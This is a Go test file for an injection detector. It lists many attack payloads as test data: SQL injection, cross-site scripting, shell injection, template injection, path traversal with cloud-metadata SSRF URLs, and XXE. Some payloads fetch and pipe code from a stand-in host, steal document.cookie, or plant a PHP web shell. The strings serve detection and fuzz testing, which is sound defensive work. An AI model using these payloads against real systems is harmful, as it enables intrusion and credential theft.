package payload

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
	"time"
)

// attacks are texts with the kind that must be among what is found.
var attacks = map[Kind][]string{
	SQL: {
		`' or 1=1-- `, `' OR 'q'='q`, `x" or "b"="b`, `0 or 2>1`, `1) or (3=3`, `admin'-- `, `admin' #`, `bob'/*`,
		`7 union select null,version(),null`, `7/**/UNION/**/ALL/**/SELECT/**/1`, `-1' union select name, secret from staff-- -`,
		`' union (select null, (select @@version)) --`, `3e0union select 1`, `1;drop table invoices--`, `1'; update staff set role='root' where id=3;--`,
		`' and substring((select secret from staff limit 1),1,1)='a`, `' || (select pg_sleep(5)) || '`, `1 and sleep(4)`, `1' waitfor delay '0:0:5'--`,
		`1 order by 12-- `, `' group by staff.id having 1=1--`, `/*!50000union*/ select 1`, `'='`, `'||'a'='a`, `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
		`' into outfile '/var/www/x.php' --`, `' exec master..xp_cmdshell 'dir' --`, `select load_file('/etc/passwd')`, `1 and 1=(select count(*) from tabname)`, `or a = a`, `1 or 1`, `7 || 7`, `'a'='a'`, `"a"<>"b" -- `, `a"" or 3=3--"`, `x\' or 'a'='a`, `1 and not sleep(5)`,
		`%27%20or%201%3D1--`, `' or 1=1 limit 1 -- -`, `" or ""="`, `1 or id between 0 and 9`, `' or id between 0 and 9-- `, `if(1=1,sleep(5),0)`, `id desc,sleep(5)`, `a:" or "1"="1`, `copy staff to '/tmp/x'`, `1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- `,
	},
	HTML: {
		`<script>x()</script>`, `<ScRiPt src=//h.example/a.js>`, `<img src=x onerror=go()>`, `"><svg/onload=go(1)>`, `<a href="java&#115;cript:go(1)">z</a>`, `" onfocus=go(1) autofocus x="`,
		`<iframe srcdoc="&lt;b&gt;">`, `<body/onpageshow=go()>`, `<math><a xlink:href=javascript:go(1)>`, `<base href=//h.example>`, `<div style="width:expr/**/ession(go())">`,
		"<im\x00g src=x onerror=go()>", `<form><button formaction=javascript:go()>`, `'onmouseover='go(1)`, `&lt;img src=x onerror=go()&gt;`, `\u003cscript\u003ego()\u003c/script\u003e`, `<details ontoggle=go() open>`, `</script><b>`,
	},
	Script: {
		`javascript:fetch('//h.example/'+document.cookie)`, `JaVa	ScRiPt:alert(1)`, `alert(document.domain)`, `(confirm)(4)`, "prompt`4`", `'-alert(4)-'`, `";eval(name)//`, `');setTimeout('x',1)//`,
		`window['ale'+'rt'](4)`, `[].constructor.constructor('x')()`, `top["al"+"ert"](1)`, `location='//h.example'`, `${alert(4)}`, `x.innerHTML=y`, `import('//h.example/a.js')`, `';return true;//`,
	},
	Shell: {
		`; cat /etc/passwd`, `| whoami`, `a && curl http://h.example/x | sh`, "`id`", `$(id)`, `;c'a't /et"c"/passwd`, `x|/bin/ls -al`, `() { :; }; /bin/bash -c id`, `;getent$IFS$9hosts`, `& ping -c 3 127.0.0.1 &`,
		"\nid\n", `; sleep 10`, `|| wget http://h.example/a -O /tmp/a`, `a;{curl,h.example}`, `--exec=id`, `& type %SYSTEMROOT%\repair\SAM`, `| set /a 2*3`, `;python3 -c 'x'`, `<(curl h.example)`, `127.0.0.1;id`, `7; id`, `a.txt;env`, `x;echo hi > /tmp/x`, `$(whoami)`,
	},
	Template: {
		`{{7*7}}`, `${7*7}`, `#{6*7}`, `<%= 7*7 %>`, `{{config.items()}}`, `{{ ''.__class__.__mro__ }}`, `{% for c in [].__class__.__base__.__subclasses__() %}`, `${jndi:ldap://h.example/a}`, `${T(java.lang.Runtime)}`,
		`{{request.application.__globals__}}`, `{{ cycler.next }}`, `{{self}}`, `<#assign a="b"?new()>`, `{{'7'*7}}`, `{%import os%}{{x}}{%set a=1%}`, `@(1+2).toString()` + `{{x()}}`, `${${lower:j}ndi:x}`,
	},
	Path: {
		`../../../etc/passwd`, `..\..\..\windows\win.ini`, `/static/..;/admin`, `....//....//etc/hosts`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `..%c0%af..%c0%afetc/passwd`, `file:///etc/shadow`, `php://filter/read=x`, `/etc/passwd`, `/proc/self/environ`, `../../secret.txt`, `../../../static/a.css`, "../../a.css\x00.txt", `../../etc/passwd?.css`,
		`http://169.254.169.254/`, `http://169.254.169.254/latest/meta-data/iam/`, `HTTP://2852039166/`, `http://0xA9FEA9FE/x`, `http://0251.0376.0251.0376/`, `http://169.254.43518/`, `http://[::ffff:169.254.169.254]/`, `http://[fd00:ec2::254]/`,
		`http://user@169.254.169.254:80/`, `//169.254.170.2/v2/credentials`, `http://metadata.google.internal/computeMetadata/v1/`, `http://169.254.169.254.nip.io/`, `http://100.100.100.200/latest`,
		`\\10.0.0.9\c$\users`,
		"../secret.key\x00.png", `%252e%252e%252f%252e%252e%252fetc/passwd`, `gopher://127.0.0.1:6379/_x`,
	},
	Code: {
		`__import__('os').system('id')`, `!!python/object/apply:os.system ["id"]`, `<?php system($_GET[0]); ?>`, `O:8:"stdClass":1:{s:1:"a";i:1;}`, `rO0ABXNyABFqYXZh`, `os.popen("id").read()`, `require('child_process').exec('id')`, `gASVJAAAAAAAAACMBXBvc2l4`, `Runtime.getRuntime().exec("id")`, "cos\nsystem\n(S'id'\ntR.",
	},
	NoSQL: {
		`{"$gt": ""}`, `{"$where": "sleep(9)"}`, `', $or: [ {}, {'a':'a`, `db.staff.find({})`, `' || this.role == 'root`, `[$ne]`, `true, $where: '1 == 1'`,
	},
	LDAP:   {`*)(uid=*))(|(uid=*`, `*(|(objectclass=*))`, `(&(uid=root)(!(a=b)))`, `cn:2.5.13.2:=x`, `admin)(&(password=*)`},
	XML:    {`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, `<!--#exec cmd="id" -->`, `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="f"/></a>`, `+ADwAIQ-DOCTYPE a+AFs +ADwAIQ-ENTITY b SYSTEM +ACI-x+ACI +AD4AXQA+`},
	Header: {"x\r\nSet-Cookie: a=b", "x\nLocation: //h.example", "x%0d%0aContent-Length:%200", "\r\nRCPT TO: <a@h.example>\r\n", "\nA7 LOGOUT\n", "DQpRVUlUDQo", "嘊嘍Set-Cookie:a=b"},
}

func TestAttacks(t *testing.T) {
	for kind, list := range attacks {
		for _, text := range list {
			if !kindsFound(Judge(text, Text)).Has(kind) {
				t.Errorf("%v: nothing found in %q (found: %+v)", kind, text, Judge(text, Text))
			}
		}
	}
}

// TestWrapped asks the same in Base64 and percent-encoded once more, and
// behind padding longer than a piece.
func TestWrapped(t *testing.T) {
	for kind, list := range attacks {
		for _, text := range list {
			if len(text) < 8 || !strings.ContainsAny(text, " '\"<{;|/(") || strings.ContainsAny(text, "\x00") || strings.Contains(text, "%") || strings.HasPrefix(text, "rO0") || strings.HasPrefix(text, "gASV") {
				continue
			}
			if w := base64.StdEncoding.EncodeToString([]byte(text)); len(text) >= 12 && !kindsFound(Judge(w, Text)).Has(kind) {
				t.Errorf("%v: nothing found in Base64 of %q", kind, text)
			}
			if w := url.PathEscape(text); w != text && !kindsFound(Judge(w, Text)).Has(kind) {
				t.Errorf("%v: nothing found in %q", kind, w)
			}
		}
	}
	// As a form makes it of Base64: a plus sign has become a space.
	for _, text := range []string{`<img src=x onerror=go(document.domain)>/all`, `"Onx=() onMouSeoVer=prompt(1)>`, "<<scr\x00ipt/src=//h.example/x.js></script"} {
		for _, w := range []string{base64.StdEncoding.EncodeToString([]byte(text)), base64.RawStdEncoding.EncodeToString([]byte(text))} {
			if w = strings.ReplaceAll(w, "+", " "); Judge(w, Text) == nil {
				t.Errorf("nothing found in %q", w)
			}
		}
	}
	for _, text := range []string{`' union select a || b from c`, `<script>go()</script>`, `{{7*7}}`} {
		for _, pad := range []string{strings.Repeat("A", 20000), strings.Repeat("lorem ipsum ", 3000)} {
			if Judge(pad+text, Text) == nil {
				t.Errorf("nothing found in %d bytes of padding and %q", len(pad), text)
			}
		}
	}
}

func kindsFound(found []Finding) (s Kinds) {
	for _, f := range found {
		s |= KindsOf(f.Kind)
	}
	return s
}

// honest are texts that people send: the words of attacks, the signs of
// attacks, and no structure.
var honest = []string{
	"union jack or union square?", "Select the best from our list of 5 wines", "drop table reservations", "O'Reilly and Sons, 5 or 6 people", "The boys' -- all of them -- went home",
	"rock 'n' roll = life", "1st or 2nd floor", "either \"here\" or \"there\"", "Moved \"{a}\" in \"{b}\"", "a < b and c > d", "if x = 3 and y = 4 then z", "I like order by phone", "2 + 2 = 4", "C++ or C#", "50% off & free shipping!",
	"Tom & Jerry; cut and paste", "see more; find less", "cat; dog; mouse", "name;id;date", "Save | Cancel | Sort by date", "echo in the mirror", "run `ls` to list files", "use ``make`` or ``pip install x``", "price: $20 (about 18 €)", "$(document) is jQuery",
	"Hello {{ name }}", "Dear {{user.first_name}},", "${HOME}/bin", "#{title}", "{% block %}", "100%{x}", "a {b} c", "JavaScript: The Good Parts", "Date (optional)", "2 alert(s)", "Confirm (yes/no)", "open(ed) at 5", "function(al) design",
	"../images/logo.png", "wait... what?", "and/or", "see /usr/share/doc", "file: report.pdf", "http://example.com/a?b=c&d=e#f", "C:\\Users\\ann\\notes.txt", "24/7", "<3", "x <- y", "h1<h2", "<b>bold</b> and <i>italic</i>", `<a href="https://example.com/x">link</a>`, "<p>Hi & bye</p>", `<img src="/a.png" alt="on=off">`,
	"Location: Paris, near the station", "line one\nline two\nQuit smoking", "Subject: hello\nDear Ann,\nsee you", "(a) first (b) second", "f(x)=(x+1)(x-1)", "smile :) or (: smile", "price >= 10 && price <= 20", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91", "abcdefghijklmnop", "d41d8cd98f00b204e9800998ecf8427e",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "ann+list@example.org", "L'amour d'été à l'Église", "#hashtag #2", "-- signed, Ann", "why not? -- yes!", "key: value", "{\"a\": 1, \"b\": [true, null]}", "[link](https://example.com)", "it's 5 o'clock; let's go", "12, Rue de l'Église (2nd floor)", "sleep well", "kill -9? no", "only = (a)", "Prototype (v2)",
	`5'8" or 5'9"`, `12" or 14" wheels`, `12" and 14"`, `5'-10"`, `title:"a b" AND year>2000`, `status:"open" or label:"good first"`, "=SUM(A1:A10)", `=IF(A1>5,"yes","no")`, "copy paper to 'tray 2'", `She said "select" and then 'union' at last`,
	`"yes" = "no" ?`, `project = ABC AND status = "In Progress" ORDER BY created DESC`, `summary ~ "login" ORDER BY priority`, `do not sleep (5)`, `He did not sleep (well)`, "5 or 6", "1.5 or 2", "2^2=4", "$(this)",
	"../../a.css", "../../static/site.css?v=3", "../../img/logo-2x.png", "name;id", "email;name;id", "a; echo and > are words",
	"The address is http://169.254.169.254/ on most clouds", "http://169.253.1.1/", "https://metadata.example.com/a", "http://1.2.3.4/", "//cdn.example.com/a.js", "http://2130706433/",
}

func TestHonest(t *testing.T) {
	for _, text := range honest {
		if found := Judge(text, Text); found != nil {
			t.Errorf("%q: %v %s %v", text, found[0].Kind, found[0].Shape, found[0].Through)
		}
	}
}

func TestProse(t *testing.T) {
	for _, text := range []string{"union was a great select", "john+or@var.es", "JavaScript: Basics of the language", "zsh is the best!", "12, Rue de l'Eglise (2nd floor)", "ls 300 lexus", "Anna, Ben and Carl; see you", "well-known", "union%20was%20a%20great%20select",
		"true or false?", "is it null or not, and why?", "She said “select” and then ‘union’ at last", "l’été à la plage", "between 5 and 6 people", "We like it; it is not null", "O'Neill & Sons", "Lee & Sons, Ltd.", "50% off; drop by", "100%", "5% less, 6% more", "I use ls\nand zsh a lot, but bash is nice too"} {
		if !Prose(text) {
			t.Errorf("%q is no prose", text)
		}
	}
	for _, text := range []string{"", "1 union select users from password", "a=b", "' or 1", "x'", "-1", "a;b", "a; drop table x--", "(a", "a)", "sleep(5)", "a\"b", "<b>", "a/b", "a\\b", "a|b", "$a", "--", "a -- b", "1 or 1=1", "a(b)", "1%20union%20select%20users%20from%20password", "a%3Db", "a%2520b", "%", "a%", "5%6", "5%27", "1% 2 or 3", "1% id or id", "1% union select users from password", "1% 1; drop table staff", "' '",
		// Words that are an expression, a second query, a second statement or a command.
		"null or true", "a or a is not null", "0 or id between 0 and 9", "false or not false", "1 union select user", "1 union all select user", "1 drop table staff", "1 shutdown", "name or name is null", "t.a like t.a", "1 or 1", "5 or 6", "1 or id", "1, 1 or 1", "(1) or (1)", "1 - 0 or 1", "id ilike id", "0 or 1 in (1, 2)", "x order by 17", "1 or 1;", "id similar to name", "id isnull", "1 or 1 :: int",
		// A command of a shell or a protocol behind a line break.
		"Please see\ncat secrets", "hello there\nsleep 9", "hello\r\nAge: 5", "hello\r\nset k 0 0 5", "hello\r\nSLAVEOF evil.example 6379", "hello\nFLUSHALL",
		"a\nwhoami", "wget h.example", "a & whoami", "a & Whoami", "a &Sons", "a& Sons", "1 & Id", "& Sons", "a & sons", "a & ",
		// What some decoder takes for ASCII.
		"＜script＞", "＇ or 1＝1", "\u02bc or 1 or \u02bc", "null\u00a0or\u00a0true", "null\u2028or\u3000true", "a\u2028whoami", "‘ or 1=1", "‘ or ’a’=’a", "a\xffb"} {
		if Prose(text) {
			t.Errorf("%q is prose", text)
		}
	}
}

// TestCost holds the time of hostile texts against that of honest ones of the
// same length, in one run: what grew with the square of the length was above
// 200 times.
func TestCost(t *testing.T) {
	// The best of several, or the first that is good enough: whoever else is
	// at work on the machine makes it slower only now and then.
	cost := func(text string, enough time.Duration) time.Duration {
		best := time.Hour
		for i := 0; i < 5 || i < 50 && best > enough; i++ {
			start := time.Now()
			Judge(text, Text)
			best = min(best, time.Since(start))
		}
		return best
	}
	honest := cost(strings.Repeat("Please send comments (if any) to ann@example.org; it's due soon: ", 125), time.Hour)
	for _, seed := range []string{"||", "|&", "\n", "\n ", "<a", "<a/", "<style ", "<style /**/", "<a style=\"/**/", "$((", "/onload=", "`a", "{{", "' or ("} {
		text := strings.Repeat(seed, 8000/len(seed)) + "))"
		if c := cost(text, 100*honest); c > 100*honest {
			t.Errorf("8 KB of %q take %v, prose %v", seed, c, honest)
		}
	}
}

func FuzzJudge(f *testing.F) {
	for _, list := range attacks {
		for _, text := range list {
			f.Add(text, uint8(0))
		}
	}
	for _, text := range honest {
		f.Add(text, uint8(1))
	}
	f.Fuzz(func(t *testing.T, text string, place uint8) {
		p := Place(place % 5)
		found := Judge(text, p)
		seen := Kinds(0)
		for _, x := range found {
			if x.Kind == 0 || x.Kind >= kinds || x.Shape == "" || seen.Has(x.Kind) || len(x.Text) > 130 {
				t.Fatalf("%q: %+v", text, x)
			}
			seen |= KindsOf(x.Kind)
			if got := JudgeKinds(text, p, KindsOf(x.Kind)); len(got) != 1 || got[0].Shape != x.Shape {
				t.Fatalf("%q: alone %v finds %+v, among all %q", text, x.Kind, got, x.Shape)
			}
		}
		if found != nil && p == Text && Prose(text) {
			t.Fatalf("%q is prose with structure", text)
		}
	})
}

func BenchmarkJudge(b *testing.B) {
	long := strings.Repeat("The committee's report (second edition) is due on Monday; please send comments, if any, to ann@example.org. ", 100)
	hostile := map[string]string{
		"quotes":   strings.Repeat(`'`, 8000),
		"mixed":    strings.Repeat(`' or (select "`, 600),
		"angles":   strings.Repeat("<a on=", 1300),
		"braces":   strings.Repeat("{{", 4000),
		"ticks":    strings.Repeat("`a", 4000),
		"comments": strings.Repeat("/*", 4000),
		"pipes":    strings.Repeat("|&;", 2700),
		"parens":   strings.Repeat("(&(", 2700),
		"encoded":  strings.Repeat("%2527", 1600),
		"newlines": strings.Repeat("\na:", 2700),
		"dollars":  strings.Repeat("$a db.", 1300),
		"bars":     strings.Repeat("||", 4000),
		"lines":    strings.Repeat("\n", 8000),
		"tags":     strings.Repeat("<a", 4000),
		"styles":   strings.Repeat("<style /**/", 730),
		"sums":     strings.Repeat("$((", 2700) + "))",
	}
	run := func(name, text string) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				Judge(text, Text)
			}
		})
	}
	run("word", "wintersale2026")
	run("sentence", "O'Reilly and Sons, 5 or 6 people (second floor)")
	run("prose", long)
	for name, text := range hostile {
		run("hostile/"+name, text)
	}
}
